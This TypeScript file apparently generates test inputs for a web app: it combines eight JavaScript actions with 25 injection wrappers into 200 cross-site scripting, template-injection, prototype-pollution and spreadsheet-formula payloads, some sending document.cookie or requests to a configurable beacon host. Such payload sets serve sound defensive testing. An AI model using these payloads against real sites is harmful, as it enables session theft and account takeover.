/** Names and texts that try to be more than text in a page. `BEACON` is the address that they would request. */
const ACTIONS = [
  "top.canary='CANARY'",
  "window.canary='CANARY'",
  "fetch('BEACON/fetch?'+document.cookie)",
  "new Image().src='BEACON/image'",
  "location='BEACON/location'",
  "navigator.sendBeacon('BEACON/send')",
  "document.title='CANARY'",
  "localStorage.canary='CANARY'",
];

const WRAPPERS: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `"><svg onload="${action}">`,
  (action) => `'><iframe srcdoc="<script>${action}</script>"></iframe>`,
  (action) => `javascript:${action}//`,
  (action) => `[x](javascript:${action})`,
  (action) => `![x](BEACON/picture "${action}")`,
  (action) => `<a href="javascript:${action}">x</a><style>@import 'BEACON/css'</style>`,
  (action) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${action}">`,
  (action) => `{{constructor.constructor("${action}")()}}\${${action}}`,
  (action) => `</title></textarea></noscript><script>${action}</script>`,
  (action) => `\u202e<img src=BEACON/bidi onerror=${action}>\u0000\u001b]8;;BEACON\u0007`,
  (action) =>
    `<base href="BEACON/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=BEACON/meta">${action}`,
  (action) => `__proto__[${action}]`,
  (action) => `<input autofocus onfocus="${action}"><details open ontoggle="${action}">`,
  (action) => `=cmd|'${action}'!A1`,
  (action) => `<video><source onerror="${action}"></video><audio src=BEACON/audio>`,
  (action) => `<object data="BEACON/object"></object><embed src="BEACON/embed">${action}`,
  (action) => `\`\`\`html\n<script>${action}</script>\n\`\`\``,
  (action) => `url(BEACON/url);background:url('javascript:${action}')`,
  (action) => `<x-y style="animation:a" onanimationstart="${action}">`,
  (action) => `data:text/html,<script>${action}</script>`,
  (action) => `vbscript:${action} <template><script>${action}</script></template>`,
  (action) => `<noscript><p title="</noscript><img src=x onerror=${action}>">`,
  (action) => `👩‍🔬${"é̂".repeat(40)}<b>${action}</b>`,
];

/** 25 kinds, each with 8 of them. */
export function hostileNames(beacon: string): string[][] {
  return WRAPPERS.map((wrap) => ACTIONS.map((action) => wrap(action).replaceAll("BEACON", beacon)));
}
